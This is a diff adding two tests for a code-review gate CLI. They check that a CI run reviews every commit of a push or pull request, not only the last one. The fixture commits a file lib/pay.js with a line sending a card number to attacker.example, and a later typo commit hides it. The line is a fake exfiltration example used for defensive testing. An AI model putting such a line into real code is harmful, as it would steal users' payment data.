@@ -1904,3 +1904,105 @@ describe('#287 a checkout git will not open for its owner (safe.directory) names
     },
   );
 });
+
+describe('#305 the CLI in a workflow step takes the base the event names, as the action does', () => {
+  // `npx proofgate review scope pr-7` in a `run:` step with no --base sealed HEAD~1: the last commit alone of a push
+  // of several commits, of a pull request checked out at its head, of a workflow_dispatch run, while the gate's
+  // verdict (and the check run it emits) answered the head.
+  it('#305 push, pull request at its head, workflow_dispatch: every commit of the change, or refused naming --base; HEAD~1 outside a workflow', async () => {
+    const repo = makeCartRepo();
+    const before = rev(repo, 'HEAD');
+    write(repo, 'lib/pay.js', 'export const pay = (card) => fetch("https://attacker.example/?c=" + card);\n');
+    commitAll(repo, 'the commit that matters');
+    write(repo, 'README.md', 'typo fixed\n');
+    commitAll(repo, 'the last commit: a typo');
+    const head = rev(repo, 'HEAD');
+    const events = mkdtempSync(join(tmpdir(), 'pg-event-'));
+    const inWorkflow = (name: string, event: object) => {
+      const path = join(events, `${name}.json`);
+      writeFileSync(path, JSON.stringify({ ...event, repository: { default_branch: 'develop' } }));
+      return { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: name, GITHUB_EVENT_PATH: path, GITHUB_SHA: head };
+    };
+    const sealedFiles = async (env: Record<string, string>) => {
+      rmSync(folderOf(repo, ID), { recursive: true, force: true });
+      const r = await cliCase(repo, ['review', 'scope', ID], env);
+      expect(r.code, r.stderr).toBe(0);
+      return readScope(repo).files.map((f) => f.path);
+    };
+    const whole = ['README.md', 'lib/pay.js'];
+    expect(await sealedFiles(inWorkflow('push', { before, after: head, forced: false, created: false }))).toEqual(whole);
+    const pr = { pull_request: { number: 7, base: { sha: before, ref: 'main' }, head: { sha: head } } };
+    expect(await sealedFiles(inWorkflow('pull_request', pr))).toEqual(whole);
+    expect(await sealedFiles(inWorkflow('merge_group', { merge_group: { base_sha: before, head_sha: head } }))).toEqual(whole);
+    for (const [name, event] of [
+      ['workflow_dispatch', { ref: 'refs/heads/feature', inputs: {} }],
+      ['push', { before: '0'.repeat(40), after: head, created: true }],
+    ] as const) {
+      rmSync(folderOf(repo, ID), { recursive: true, force: true });
+      const r = await cliCase(repo, ['review', 'scope', ID], inWorkflow(name, event));
+      expect(r.code, name).toBe(3);
+      // One line, inside the stop-commands fence a workflow step's stderr gets.
+      expect(
+        r.stderr
+          .trim()
+          .split('\n')
+          .filter((l) => !l.startsWith('::')),
+        name,
+      ).toHaveLength(1);
+      expect(r.stderr, name).toMatch(
+        /names no base commit, and HEAD~1 would review its last commit only.*give `--base` .*`--base origin\/develop`/,
+      );
+      expect(existsSync(scopeFile(repo)), name).toBe(false);
+    }
+    // A base given, a working tree, or no workflow: as written.
+    write(repo, 'src/wip.js', 'export const wip = 1;\n');
+    const tree = await cliCase(repo, ['review', 'scope', ID, '--workspace'], inWorkflow('workflow_dispatch', {}));
+    expect(tree.code, tree.stderr).toBe(0);
+    expect(readScope(repo).files.map((f) => f.path)).toEqual(['src/wip.js']);
+    rmSync(join(repo, 'src/wip.js'));
+    rmSync(folderOf(repo, ID), { recursive: true, force: true });
+    const given = await cliCase(repo, ['review', 'scope', ID, '--base', before], inWorkflow('workflow_dispatch', {}));
+    expect(given.code, given.stderr).toBe(0);
+    expect(readScope(repo).files.map((f) => f.path)).toEqual(whole);
+    expect(await sealedFiles({})).toEqual(['README.md']);
+    rmSync(events, { recursive: true, force: true });
+  });
+});
+
+describe('#306 a scope that starts inside the change the event names is incomplete', () => {
+  // A scope sealed from HEAD~1 (a `base:` input, a `run:` step's --base, a job that sealed before a rebase moved the
+  // change's start): the commit before it reached no reviewer, and the gate on the pull request's head said clean
+  // because the scope agreed with itself and with git at its own refs.
+  it('#306 pull request of two commits sealed from HEAD~1: the action and the CLI in a workflow say incomplete, naming the commits; sealed from its base: clean', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'lib/pay.js', 'export const pay = (card) => fetch("https://attacker.example/?c=" + card);\n');
+    commitAll(repo, 'the commit that matters');
+    write(repo, 'README.md', 'typo fixed\n');
+    commitAll(repo, 'the last commit: a typo');
+    const head = rev(repo, 'HEAD');
+    const event = prEvent(repo, 'HEAD~2');
+    const eventPath = join(mkdtempSync(join(tmpdir(), 'pg-event-')), 'event.json');
+    writeFileSync(eventPath, JSON.stringify(event));
+    const workflow = { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH: eventPath };
+    const why = new RegExp(
+      `the scope starts at ${rev(repo, 'HEAD~1').slice(0, 12)}, 1 commit\\(s\\) into the change this pull_request run names \\(from ${rev(repo, 'HEAD~2').slice(0, 12)}\\): no reviewer saw them`,
+    );
+    expect((await seal(repo, ['--base', 'HEAD~1'])).files.map((f) => f.path)).toEqual(['README.md']);
+    answer(repo);
+    expectIncomplete(await gate(repo, { agent: 'none' }, event), why, head);
+    const cli = await cliCase(repo, ['review', 'gate', ID], workflow);
+    expect(cli.code, cli.stdout).toBe(2);
+    expect(cli.stdout).toMatch(why);
+    // Outside a workflow the CLI answers the refs it is given, as before.
+    expect((await cliCase(repo, ['review', 'gate', ID])).code).toBe(0);
+    rmSync(folderOf(repo, ID), { recursive: true, force: true });
+    // Sealed by the gate itself from a base input inside the change: the same.
+    expectIncomplete(await gate(repo, { agent: 'none', base: 'HEAD~1' }, event), why, head);
+    rmSync(folderOf(repo, ID), { recursive: true, force: true });
+    expect((await seal(repo, ['--base', 'HEAD~2'])).files.map((f) => f.path)).toEqual(['README.md', 'lib/pay.js']);
+    answer(repo);
+    expect((await gate(repo, { agent: 'none' }, event)).outputs.verdict).toBe('clean');
+    expect((await cliCase(repo, ['review', 'gate', ID], workflow)).code).toBe(0);
+    rmSync(dirname(eventPath), { recursive: true, force: true });
+  });
+});
